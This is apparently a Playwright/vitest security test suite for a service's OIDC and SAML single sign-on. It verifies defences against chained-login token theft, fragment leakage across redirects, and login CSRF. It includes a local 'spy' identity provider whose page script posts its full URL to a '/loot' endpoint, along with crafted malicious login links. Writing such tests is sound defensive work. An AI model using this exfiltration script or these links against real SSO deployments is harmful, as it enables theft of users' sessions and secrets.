import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { createTenantWithAdmin, startTestApi, type Key, type TestApi } from '../support/local-api.js';
import { TestBrowser as HttpBrowser } from '../support/browser.js';
import { launchChromium, type TestBrowser } from '../support/chromium.js';
import { startDevOidcProvider, type DevOidcProvider } from '../../tools/dev-idp/oidc-provider.js';
import { startDevSamlIdp } from '../../tools/dev-idp/saml-idp.js';
import { IGNORED_SIGN_IN } from '../../console/session.js';

/*
 * Single sign-on attacked in Debian's Chromium, where browsers carry a URL fragment over redirects:
 * - the chained login: a tenant admin E whose OIDC connection points at a server E runs sends a user of tenant V a link
 *   that signs in at V and returns to E's login route. E's server (the "spy" below) is a real discovery document and
 *   an authorization page whose script reports every URL it is opened with, fragment included;
 * - a redirect off the service's origin never lets the fragment of the page before ride along;
 * - login CSRF: a sign-in result the console did not start (a link with someone else's code) is ignored, visibly.
 */
let api: TestApi;
let chromium: TestBrowser;
let oidc: DevOidcProvider;
let saml: Awaited<ReturnType<typeof startDevSamlIdp>>;
let spy: { issuer: string; seen: string[]; close: () => Promise<void> };
let victim: { id: string; admin: Key };
let attacker: { id: string; admin: Key };
const CLIENT = { client_id: 'custody-attacks', client_secret: 'dev-secret-attacks-01' };
const VICTIM = 'victim@v.example';
const MALLORY = 'mallory@v.example';

/** E's "identity provider": discovery, and an authorization page that posts back the whole URL it was opened with. */
async function startSpy() {
  const seen: string[] = [];
  const server = http.createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  server.on('request', (req, res) => {
    const url = new URL(req.url ?? '/', issuer);
    let raw = '';
    req.on('data', (c: Buffer) => (raw += c.toString('utf8')));
    req.on('end', () => {
      if (url.pathname === '/.well-known/openid-configuration') {
        res.writeHead(200, { 'Content-Type': 'application/json' });
        return res.end(
          JSON.stringify({
            issuer,
            authorization_endpoint: `${issuer}/authorize`,
            token_endpoint: `${issuer}/token`,
            jwks_uri: `${issuer}/jwks`,
            response_types_supported: ['code'],
            subject_types_supported: ['public'],
            id_token_signing_alg_values_supported: ['RS256'],
          }),
        );
      }
      if (url.pathname === '/authorize') {
        seen.push(`request: ${url.href}`);
        res.writeHead(200, { 'Content-Type': 'text/html' });
        return res.end(
          `<!doctype html><title>spy</title><script>fetch('/loot', { method: 'POST', body: location.href }).then(() => { document.title = 'reported'; });</script>`,
        );
      }
      if (url.pathname === '/loot') {
        seen.push(`page: ${raw}`);
        return res.writeHead(204).end();
      }
      res.writeHead(404).end();
    });
  });
  return {
    issuer,
    seen,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

beforeAll(async () => {
  [api, chromium] = await Promise.all([startTestApi(), launchChromium()]);
  const users = [
    { email: VICTIM, groups: [], name: 'Victim' },
    { email: MALLORY, groups: [], name: 'Mallory' },
  ];
  [oidc, saml, spy] = await Promise.all([
    startDevOidcProvider({ clients: [{ ...CLIENT, redirect_uris: [`${api.baseUrl}/v1/sso/oidc/callback`] }], users }),
    startDevSamlIdp({ users }),
    startSpy(),
  ]);
  const [v, e] = [await createTenantWithAdmin(api), await createTenantWithAdmin(api)];
  victim = { id: v.tenant.id, admin: v.admin };
  attacker = { id: e.tenant.id, admin: e.admin };
  expect(
    (
      await api.call('PUT', '/v1/sso/oidc', {
        key: victim.admin,
        body: { issuer: oidc.issuer, ...CLIENT, scopes: ['openid', 'email', 'profile'] },
      })
    ).status,
  ).toBe(200);
  expect(
    (await api.call('PUT', '/v1/sso/saml', { key: victim.admin, body: { idp_metadata_xml: saml.metadataXml } })).status,
  ).toBe(200);
  expect(
    (
      await api.call('PUT', '/v1/sso/oidc', {
        key: attacker.admin,
        body: { issuer: spy.issuer, client_id: 'e', client_secret: 'e-secret-0123456789' },
      })
    ).status,
  ).toBe(200);
  for (const email of [VICTIM, MALLORY]) {
    expect(
      (
        await api.call('POST', '/v1/users', {
          key: victim.admin,
          body: { email, name: email, role_ids: ['role_admin'] },
        })
      ).status,
    ).toBe(201);
  }
}, 120_000);
afterAll(async () => {
  await chromium?.close();
  await Promise.all([oidc?.close(), saml?.close(), spy?.close()]);
  await api?.close();
});

let context: BrowserContext | undefined;
afterEach(async () => {
  await context?.close();
  context = undefined;
});

async function newPage(): Promise<{ page: Page; urls: string[] }> {
  context = await chromium.browser.newContext();
  const page = await context.newPage();
  const urls: string[] = [];
  page.on('framenavigated', (f) => urls.push(f.url()));
  page.on('request', (r) => urls.push(r.url()));
  return { page, urls };
}

/** The victim's sessions: none may exist after an attack that was stopped before the sign-in. */
async function sessionsOfVictimTenant() {
  const list = await api.call('GET', '/v1/credentials?limit=200', { key: victim.admin });
  return (list.body.credentials as { kind: string }[]).filter((c) => c.kind === 'session');
}

describe('the chained-login attack', () => {
  for (const kind of ['oidc', 'saml'] as const) {
    it(`ends with no secret outside the service (${kind} sign-in at V returning to E's login route)`, async () => {
      const before = (await sessionsOfVictimTenant()).length;
      const { page, urls } = await newPage();
      const link = `${api.baseUrl}/v1/sso/${kind}/login?${new URLSearchParams({ tenant_id: victim.id, return_to: `/v1/sso/oidc/login?tenant_id=${attacker.id}` })}`;
      const res = await page.goto(link);
      expect(res!.status()).toBe(400);
      expect(JSON.parse(await page.locator('body').innerText()).error).toMatchObject({ code: 1018 });
      expect(urls.every((u) => new URL(u).origin === api.baseUrl)).toBe(true);
      expect(spy.seen).toEqual([]);
      expect((await sessionsOfVictimTenant()).length).toBe(before);
    });
  }

  it('lets no fragment ride along on a redirect to another origin (a login link opened with a fragment of its own)', async () => {
    const { page } = await newPage();
    await page.goto(`${api.baseUrl}/v1/sso/oidc/login?tenant_id=${attacker.id}#key_id=pqck_x&secret=carried-over`);
    await page.waitForFunction(() => document.title === 'reported');
    const reported = spy.seen.filter((s) => s.startsWith('page: '));
    expect(reported).toHaveLength(1);
    expect(reported[0]).not.toContain('carried-over');
    expect(new URL(reported[0]!.slice('page: '.length)).hash).toBe('');
    spy.seen.length = 0;
  });

  it('a real sign-in through the console never puts the session secret in any URL the browser loads', async () => {
    const { page, urls } = await newPage();
    await page.goto(`${api.baseUrl}/console?tenant_id=${victim.id}`);
    await page.locator('#sso-signin').click();
    await page.waitForURL((u) => u.origin === oidc.issuer);
    await page.getByRole('button', { name: new RegExp(VICTIM) }).click();
    await page.locator('#who').waitFor();
    const credential = JSON.parse((await page.evaluate(() => sessionStorage.getItem('custody.console.credential')))!);
    expect(credential.secret).toEqual(expect.any(String));
    expect(urls.filter((u) => u.includes(credential.secret) || u.includes(credential.keyId))).toEqual([]);
    expect(new URL(page.url()).hash).toBe('');
  });
});

describe('login CSRF: a sign-in result the console did not start', () => {
  /** Mallory finishes a sign-in of her own (outside the victim's browser) and keeps the link it returns to. */
  async function mallorysLink(clientState?: string): Promise<string> {
    const b = new HttpBrowser();
    const q = new URLSearchParams({
      tenant_id: victim.id,
      return_to: '/console',
      ...(clientState ? { client_state: clientState } : {}),
    });
    const login = await b.get(`${api.baseUrl}/v1/sso/oidc/login?${q}`);
    const toForm = await b.follow(login.location!, (next) => /\/interaction\/[^/]+$/.test(new URL(next).pathname));
    const posted = await b.request('POST', `${toForm.next!}/login`, { email: MALLORY });
    const back = await b.follow(posted.location!, (u) => u.startsWith(`${api.baseUrl}/v1/sso/oidc/callback`));
    const res = await b.get(back.next!);
    expect(res.status).toBe(302);
    return res.location!;
  }

  it('is ignored with a visible message, whether it carries no client state or one the tab never stored', async () => {
    for (const link of [await mallorysLink(), await mallorysLink('mallory-chosen-state-0001')]) {
      const { page } = await newPage();
      await page.goto(link);
      await page.locator('#signin').waitFor();
      expect(await page.locator('#signin-error').textContent()).toBe(IGNORED_SIGN_IN);
      expect(await page.evaluate(() => sessionStorage.getItem('custody.console.credential'))).toBeNull();
      expect(new URL(page.url()).hash).toBe('');
      await context!.close();
      context = undefined;
    }
  });

  it('is ignored when the tab started a sign-in of its own (the states differ)', async () => {
    const { page } = await newPage();
    await page.goto(`${api.baseUrl}/console?tenant_id=${victim.id}`);
    await page.locator('#sso-signin').click();
    await page.waitForURL((u) => u.origin === oidc.issuer);
    await page.goto(await mallorysLink('mallory-chosen-state-0002'));
    await page.locator('#signin').waitFor();
    expect(await page.locator('#signin-error').textContent()).toBe(IGNORED_SIGN_IN);
    expect(await page.evaluate(() => sessionStorage.getItem('custody.console.credential'))).toBeNull();
  });
});
